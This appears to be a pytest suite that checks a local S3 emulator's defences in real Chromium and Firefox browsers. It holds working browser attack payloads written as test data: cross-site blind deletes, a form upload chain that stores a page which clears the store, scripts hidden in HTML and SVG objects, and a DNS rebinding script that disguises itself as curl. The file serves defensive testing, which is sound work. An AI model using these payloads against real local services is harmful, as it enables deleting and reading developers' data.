# SPDX-License-Identifier: MIT
"""What the guard promises, asked of Chromium: pages of other sites, links, images, upload forms,
objects opened as pages, and DNS rebinding in a network of its own."""

import contextlib

import pytest

from browser import (
    CHROMIUM,
    FIREFOX,
    NameServer,
    Network,
    browsing,
    chromium_command,
    firefox_command,
    need,
    serving_pages,
)
from harness import client, http_request, serving

pytestmark = pytest.mark.options

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c6300010000"
    "0500010d0a2db40000000049454e44ae426082"
)


@pytest.fixture(autouse=True)
def chromium():
    need(CHROMIUM, "chromium")


def filled(server):
    s3 = client(server)
    s3.put_object(Bucket="bucket", Key="precious", Body=b"the developer's data")
    s3.put_object(Bucket="bucket", Key="pixel.png", Body=PIXEL, ContentType="image/png")
    s3.put_object(Bucket="bucket", Key="var.js", Body=b"var secret = 1", ContentType="text/javascript")
    return s3


def keys(server):
    listing = client(server).list_objects_v2(Bucket="bucket")
    return {o["Key"] for o in listing.get("Contents", [])}


FILLED = {"precious", "pixel.png", "var.js"}


def unharmed(server):
    assert keys(server) == FILLED
    assert http_request(server, "GET", "/bucket/precious").body == b"the developer's data"
    assert http_request(server, "GET", "/_s3mem/snapshots").json == {"snapshots": []}
    assert [b["Name"] for b in client(server).list_buckets()["Buckets"]] == ["bucket"]


# ---- a page of another site ---------------------------------------------------------------------

ATTACKS = """
async function attack(s) {
  const text = {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}};
  const all = '<Delete><Object><Key>precious</Key></Object></Delete>';
  const seen = {};
  seen.read = await tries(s + '/bucket/precious');
  seen.list = await tries(s + '/bucket');
  seen.health = await tries(s + '/_localstack/health');
  seen.stats = await tries(s + '/_s3mem/stats');
  seen.put = await tries(s + '/bucket/evil', {method: 'PUT', body: 'x'});
  seen.remove = await tries(s + '/bucket/precious', {method: 'DELETE'});
  seen.blind = [
    await tries(s + '/bucket?delete', {...text, body: all}),
    await tries(s + '/_s3mem/clear', text), await tries(s + '/_localstack/state/reset', text),
    await tries(s + '/_localstack/health', {...text, body: '{"action":"restart"}'}),
    await tries(s + '/_s3mem/snapshots', {...text, body: '{}'}), await tries(s + '/bucket/k?uploads', text)];
  navigator.sendBeacon(s + '/bucket?delete', all);
  const form = new FormData(); form.append('key', 'evil.html'); form.append('file', new Blob(['x']));
  seen.form = await tries(s + '/bucket', {method: 'POST', mode: 'no-cors', body: form});
  seen.image = await loads('img', {src: s + '/bucket/pixel.png'});
  seen.hidden = await loads('img', {src: s + '/bucket/pixel.png', referrerPolicy: 'no-referrer'});
  seen.script = [await loads('script', {src: s + '/bucket/var.js'}), typeof secret];
  seen.events = await new Promise(done => {
    const e = new EventSource(s + '/_s3mem/events'); e.onopen = () => done('open'); e.onerror = () => done('error'); });
  seen.socket = await new Promise(done => {
    const w = new WebSocket(s.replace('http', 'ws') + '/bucket/precious');
    w.onopen = () => done('open'); w.onerror = () => done('error'); });
  return seen;
}
"""


def nothing_seen(seen):
    for name in ("read", "list", "health", "stats", "put", "remove"):
        assert seen[name][0] == "failed", (name, seen)
    assert seen["image"] == seen["events"] == seen["socket"] == "error", seen
    assert seen["script"] == ["error", "undefined"], seen


def test_a_page_of_another_site():
    """At 127.0.0.1, which tells a browser's page by Sec-Fetch-Site; and out of a sandbox."""
    inner = "<script>%s attack('http://127.0.0.1:%d').then(r => parent.postMessage(r, '*'))</script>"
    with serving("--bucket", "bucket") as server, serving_pages({}) as web:
        filled(server)
        pages = {
            "/": f"<script>{ATTACKS} attack('{server.url}').then(r => report('evil', r))</script>",
            "/sandbox": "<script>onmessage = m => report('null', m.data)</script>"
            "<iframe sandbox=allow-scripts src=/inner></iframe>",
            "/inner": inner % (ATTACKS, server.port),
        }
        web.pages.update(pages)
        with browsing(f"http://evil.example:{web.port}/"):
            seen = web.reported("evil")
        nothing_seen(seen)
        assert seen["hidden"] == "error", seen
        unharmed(server)
        with browsing(f"http://evil.example:{web.port}/sandbox"):
            nothing_seen(web.reported("null"))
        unharmed(server)


def test_a_page_of_another_site_at_a_host_that_is_not_trusted():
    """http://s3memd: no Fetch Metadata. Origin and Referer are left; who hides the Referer may load
    one object and cannot read it."""
    with serving("--bucket", "bucket") as server, serving_pages({}) as web:
        filled(server)
        web.pages["/"] = (
            f"<script>{ATTACKS} attack('http://s3memd:{server.port}').then(r => report('evil', r))</script>"
        )
        with browsing(f"http://evil.example:{web.port}/"):
            seen = web.reported("evil")
        nothing_seen(seen)
        assert seen["hidden"] == "loaded", seen
        unharmed(server)


def test_the_chain_of_a_form():
    """A form stores a page, the server leads the browser to it, and the page empties the store."""
    with serving("--bucket", "bucket") as server, serving_pages({}) as web:
        filled(server)
        web.pages["/"] = f"""<form id=f method=POST enctype=multipart/form-data action="{server.url}/bucket">
            <input name=key value=evil.html><input name=Content-Type value=text/html>
            <input name=success_action_redirect value="{server.url}/bucket/evil.html">
            <textarea name=file></textarea></form><script>
            f.file.value = '<script>fetch("/_s3mem/clear", {{method: "POST"}})</' + 'script>';
            report('there', 1).then(() => f.submit())</script>"""
        with browsing(f"http://evil.example:{web.port}/"):
            web.reported("there")
            journal = "/_s3mem/requests?operation=PostObject&wait=60s&count=1"
            posted = http_request(server, "GET", journal, timeout=60).json["requests"]
        assert [r["status"] for r in posted] == [403]
        unharmed(server)


# ---- objects as pages ---------------------------------------------------------------------------

PAGE = """<html xmlns="http://www.w3.org/1999/xhtml"><body>
<script>fetch('/_s3mem/stats').then(r => { location = 'http://127.0.0.1:%d/ran/' + r.status; })</script>
<img src="http://127.0.0.1:%d/shown/%s" /></body></html>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script>fetch('/_s3mem/stats').then(r => { location = 'http://127.0.0.1:%d/ran/' + r.status; })</script>
<image xlink:href="http://127.0.0.1:%d/shown/%s" width="1" height="1" /></svg>"""


def put_pages(server, web):
    s3 = filled(server)
    for name, kind, text in (("html", "text/html", PAGE), ("xhtml", "application/xhtml+xml", PAGE),
                             ("svg", "image/svg+xml", SVG)):
        s3.put_object(Bucket="bucket", Key=name, ContentType=kind,
                      Body=(text % (web.port, web.port, name)).encode())


def test_a_link_of_another_site_is_opened_in_a_sandbox():
    with serving("--bucket", "bucket") as server, serving_pages({}) as web:
        put_pages(server, web)
        for name in ("html", "xhtml", "svg"):
            web.pages["/"] = f"<script>location = '{server.url}/bucket/{name}'</script>"
            with browsing(f"http://evil.example:{web.port}/"):
                web.wait(lambda n=name: ("GET", f"/shown/{n}") in web.asked)
        assert not [p for _, p in web.asked if p.startswith("/ran/")], web.asked
        reads = http_request(server, "GET", "/_s3mem/requests?operation=GetObject").json["requests"]
        assert {(r["key"], r["status"]) for r in reads} >= {(n, 200) for n in ("html", "xhtml", "svg")}


def test_page_scripts_may_be_allowed():
    """The same page, at the address bar: it runs, in the server's own origin."""
    with serving("--bucket", "bucket", "--allow-page-scripts") as server, serving_pages({}) as web:
        put_pages(server, web)
        with browsing(f"{server.url}/bucket/html"):
            web.wait(lambda: ("GET", "/ran/200") in web.asked)


# ---- daily use ----------------------------------------------------------------------------------

APP = """<script>
const s = '%s', signed = {Authorization: 'AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/s3/aws4_request, ' +
  'SignedHeaders=host;x-amz-date, Signature=' + '0'.repeat(64), 'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
  'x-amz-date': new Date().toISOString().replace(/[-:]|[.]\\d+/g, ''), 'amz-sdk-request': 'attempt=1'};
async function app() {
  const seen = {};
  let r = await fetch(s + '/bucket/new', {method: 'PUT', body: 'x', headers: {...signed, 'x-amz-meta-who': 'me'}});
  seen.put = [r.status, r.headers.get('etag')];
  r = await fetch(s + '/bucket/new', {headers: signed});
  seen.get = [r.status, await r.text(), r.headers.get('x-amz-meta-who'), r.headers.get('x-amz-request-id') != null,
              r.headers.get('date') != null];
  r = await fetch(s + '/bucket/none', {headers: signed});
  seen.none = [r.status, (await r.text()).includes('NoSuchKey')];
  r = await fetch(s + '/bucket/many?uploads=', {method: 'POST', headers: signed});
  seen.upload = r.status;
  r = await fetch(s + '/bucket?list-type=2', {headers: signed});
  seen.list = [r.status, (await r.text()).includes('<Key>new</Key>')];
  seen.buckets = (await fetch(s + '/', {headers: signed})).status;
  seen.create = (await fetch(s + '/another', {method: 'PUT', headers: signed})).status;
  seen.remove = (await fetch(s + '/bucket/new', {method: 'DELETE', headers: signed})).status;
  seen.image = await loads('img', {src: s + '/bucket/pixel.png'});
  seen.script = [await loads('script', {src: s + '/bucket/var.js'}), typeof secret];
  const form = new FormData(); form.append('key', 'posted'); form.append('success_action_status', '201');
  form.append('file', new Blob(['x']), 'f');
  r = await fetch(s + '/bucket', {method: 'POST', body: form});
  seen.form = [r.status, (await r.text()).includes('<Key>posted</Key>')];
  f.action = s + '/bucket'; f.submit();
  return seen;
}
</script><iframe name=into></iframe><form id=f method=POST enctype=multipart/form-data target=into>
<input name=key value=submitted><textarea name=file>x</textarea></form>
<script>app().then(r => report('app', r), e => report('app', String(e)))</script>"""

WORKS = {
    "put": [200, '"9dd4e461268c8034f5c8564e155c67a6"'],
    "get": [200, "x", "me", True, True],
    "none": [404, True],
    "upload": 200,
    "list": [200, True],
    "buckets": 200,
    "create": 200,
    "remove": 204,
    "image": "loaded",
    "script": ["loaded", "number"],
    "form": [201, True],
}


@pytest.mark.parametrize(
    "page,endpoint,allowed",
    [
        ("localhost", "localhost", False),
        ("localhost", "127.0.0.1", False),
        ("127.0.0.1", "s3memd", False),
        ("app.example", "127.0.0.1", True),
        ("app.example", "s3memd", True),
    ],
)
def test_an_application(page, endpoint, allowed):
    """What an SDK in a page sends, an image, a script and an upload form; of localhost, and of an
    allowed origin."""
    with serving_pages({}) as web:
        origin = f"http://{page}:{web.port}"
        options = ["--cors-allow-origin", origin] if allowed else []
        with serving("--bucket", "bucket", *options) as server:
            filled(server)
            web.pages["/"] = APP % f"http://{endpoint}:{server.port}"
            with browsing(f"{origin}/"):
                seen = web.reported("app")
                assert seen == WORKS
                journal = "/_s3mem/requests?key=submitted&wait=60s&count=1"
                posted = http_request(server, "GET", journal, timeout=60).json["requests"]
                assert [r["status"] for r in posted] == [204]


def test_a_browser_at_a_container_s_name():
    """End-to-end tests whose browser opens http://s3memd:4566 itself: no Fetch Metadata."""
    with serving("--bucket", "bucket") as server, serving_pages({}) as web:
        put_pages(server, web)
        with browsing(f"http://s3memd:{server.port}/bucket/html"):
            web.wait(lambda: ("GET", "/shown/html") in web.asked)
        assert not [p for _, p in web.asked if p.startswith("/ran/")], web.asked


# ---- DNS rebinding ------------------------------------------------------------------------------

REBINDS = """<meta name=referrer content=no-referrer><script>
async function rebound() {
  // Until the server behind our own name is another one.
  for (;;) {
    try {
      const r = await fetch('/bucket/precious?' + Math.random(), {cache: 'no-store'});
      if (!r.headers.get('x-web')) break;
    } catch (e) { }
    await new Promise(done => setTimeout(done, 100));
  }
  const seen = {};
  for (const path of ['/', '/bucket', '/bucket/precious', '/_s3mem/stats', '/_localstack/health'])
    seen['GET ' + path] = await tries(path);
  seen['PUT'] = await tries('/bucket/evil', {method: 'PUT', body: 'x'});
  seen['DELETE'] = await tries('/bucket/precious', {method: 'DELETE'});
  seen['POST'] = await tries('/_s3mem/clear', {method: 'POST'});
  seen['disguised fetch'] = await tries('/bucket', {headers: {'User-Agent': 'curl/8', 'Accept-Language': '*'}});
  for (const language of ['', '*'])
    seen['disguised ' + language] = await new Promise(done => {
      const x = new XMLHttpRequest();
      x.open('GET', '/bucket/precious');
      x.setRequestHeader('User-Agent', 'curl/8');
      x.setRequestHeader('Accept-Language', language);
      x.onload = () => done([x.status, x.responseText]);
      x.send();
    });
  return seen;
}
report('there', 1).then(rebound).then(r => report('rebound', r))</script>"""


@pytest.fixture
def network():
    made = Network()
    yield made
    made.close()


@pytest.mark.parametrize("allowed", [False, True], ids=["refused", "as it would be"])
@pytest.mark.parametrize("browser", ["chromium", "firefox"])
def test_rebinding(network, browser, allowed):
    """The page's own name is pointed at the server: to its browser they are one origin. With the
    name allowed the attack works, which proves that it is one. In Firefox the page may pass for
    curl."""
    need({"chromium": CHROMIUM, "firefox": FIREFOX}[browser], browser)
    command = {"chromium": chromium_command, "firefox": firefox_command}[browser]
    options = ["--allow-host", "rebind.evil.example"] if allowed else []
    here, there, port = network.HERE, network.THERE, 4566
    with contextlib.ExitStack() as stack:
        with network.inside():
            server = stack.enter_context(
                serving("--bucket", "bucket", "--insecure", *options, listen=f"{there}:{port}"))
            names = NameServer(here, here)
            stack.callback(names.close)
            web = stack.enter_context(serving_pages({"/": REBINDS}, address=here, port=port))
            http_request(server, "PUT", "/bucket/precious", {}, b"the developer's data")
        with browsing(f"http://rebind.evil.example:{port}/", prefix=network.enter, command=command):
            web.reported("there")
            names.address = there
            network.forget_names()
            seen = web.reported("rebound")
        with network.inside():
            left = http_request(server, "GET", "/bucket/precious")
        assert there in names.answered
        if allowed:
            assert seen["GET /bucket/precious"] == [200, "the developer's data"], seen
            assert seen["POST"][0] == 200 and left.status == 404
            return
        for what, (status, text) in seen.items():
            assert status == 403 and "--allow-host=rebind.evil.example" in text, (what, status, text)
        assert left.body == b"the developer's data"
